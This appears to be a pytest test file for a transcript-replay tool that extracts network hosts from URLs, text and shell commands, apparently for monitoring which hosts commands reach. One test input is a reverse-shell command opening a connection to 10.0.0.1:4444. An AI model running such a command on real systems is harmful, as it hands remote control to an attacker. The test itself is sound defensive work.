"""Hosts in texts and in the words of commands."""

import re
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from session_replay.transcript.facts import command_facts
from session_replay.transcript.hosts import host_of, url_hosts


@pytest.mark.parametrize(
    ("authority", "host"),
    [
        ("Example.COM", "example.com"),
        ("example.com:8443", "example.com:8443"),
        ("example.com.", "example.com"),
        ("user:p@ss@example.com", "example.com"),
        ("127.0.0.1:80", "127.0.0.1:80"),
        ("[0:0:0:0:0:0:0:1]:8080", "[::1]:8080"),
        ("[fe80::1%eth0]", "[fe80::1]"),
        ("bücher.example", "xn--bcher-kva.example"),
        ("\u0430pple.com", "xn--pple-43d.com"),  # a Cyrillic letter
        ("\uff45xample\u3002com", "example.com"),
        ("example.com\uff0c\u7136\u540e", "example.com"),
        ("$HOST:8080", "$HOST:8080"),
        ("api.${ENV}.example.com", "api.${ENV}.example.com"),
        ("localhost:$PORT", "localhost:$PORT"),
        ("*.example.com", "*.example.com"),
        ("", None),
        ("...", None),
        ("%s", None),
        ("[::1", None),
        ("\u202eevil.example", None),
        ("a" * 300, None),
    ],
)
def test_a_host_is_told_as_the_network_sees_it(authority, host):
    assert host_of(authority) == host


@pytest.mark.parametrize(
    ("text", "hosts"),
    [
        ("curl -s https://Example.com/x?y=http%3A", ["example.com"]),
        ("see (https://a.example), <https://b.example>.", ["a.example", "b.example"]),
        ('{"url":"https://c.example:1/x"}', ["c.example:1"]),
        ("git clone ssh://git@git.example:22/x ftp://old.example", ["git.example:22", "old.example"]),
        ("postgresql://u:secret@db.example:5432/x", ["db.example:5432"]),
        ("jdbc:mysql://db.example/x git+https://h.example/y", ["db.example", "h.example"]),
        ("file:///etc/passwd about://x", []),
        ("aws s3 cp x s3://bucket/key", ["s3://bucket"]),
        ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", ["10.0.0.1:4444"]),
        ("https:// ://x.example", []),
        ("https://a.example\nhttps://a.example", ["a.example", "a.example"]),
    ],
)
def test_every_url_of_a_text_is_found(text, hosts):
    assert url_hosts(text) == hosts


@pytest.mark.parametrize(
    ("command", "hosts"),
    [
        ("curl example.com", ["example.com"]),
        ("curl -sSLo out.json -H 'Host: x.example' example.com/a", ["example.com"]),
        ("curl --output out.json localhost:3000/health", ["localhost:3000"]),
        ("curl --unknown maybe.example", []),
        ("wget -q -O page.html example.com", ["example.com"]),
        ("curl -d @body.json https://api.example/v1", ["api.example"]),
        ("ssh -i key.pem -p 22 root@box ls", ["box"]),
        ("ssh box", ["box"]),
        ("sudo scp a.txt dev@Host.example:/tmp/ other:b ./c:d", ["host.example", "other"]),
        ("rsync -av src/ backup.example:dst", ["backup.example"]),
        ("git clone git@github.com:a/b.git", ["github.com"]),
        ("git commit -m 'mail me@x.example: it works'", []),
        ("nc -zv 10.1.2.3 80", ["10.1.2.3"]),
        ("nc -l 8080", []),
        ("ping -c 1 example.com", ["example.com"]),
        ("dig +short @8.8.8.8 example.com", ["8.8.8.8"]),
        ("psql -h db.example -U me", ["db.example"]),
        ("psql -h /var/run", []),
        ("redis-cli --host=cache.example ping", ["cache.example"]),
        ("openssl s_client -connect tls.example:443 </dev/null", ["tls.example:443"]),
        ("bash -c 'curl inner.example'", ["inner.example"]),
        ("python -c \"import requests; requests.get('https://py.example/')\"", ["py.example"]),
        ("cat <<EOF\nhttps://doc.example\nEOF", ["doc.example"]),
        ("cat notes.example.txt a@b", []),
    ],
)
def test_hosts_of_commands(command, hosts):
    assert command_facts(command).hosts == hosts


LABELS = st.from_regex(r"[a-z]([a-z0-9-]{0,10}[a-z0-9])?", fullmatch=True)


@given(
    st.lists(LABELS, min_size=1, max_size=4),
    st.integers(1, 65535) | st.none(),
    st.sampled_from(["", "user@", "user:secret@"]),
    st.sampled_from(["", "/", "/a/b?c=d", "?x", "#y"]),
    st.sampled_from([" ", "'", '"', "(", "<", "\n", "=", ","]),
)
def test_a_url_in_any_surroundings_names_the_host_that_the_standard_library_sees(labels, port, login, rest, before):
    url = f"https://{login}{'.'.join(labels)}{f':{port}' if port else ''}{rest}"
    parts = urlsplit(url)

    assert url_hosts(f"echo{before}{url} then") == [f"{parts.hostname}{f':{port}' if port else ''}"]


@given(st.text() | st.text(alphabet="a:/@.[]$-é\u202e%", max_size=40))
def test_any_text_gives_hosts_that_can_be_shown(text):
    for host in url_hosts(f"https://{text}"):
        assert re.fullmatch(r"(?:[a-z0-9]+://)?[\w.*$\[\]{}:-]{1,300}", host, re.ASCII)
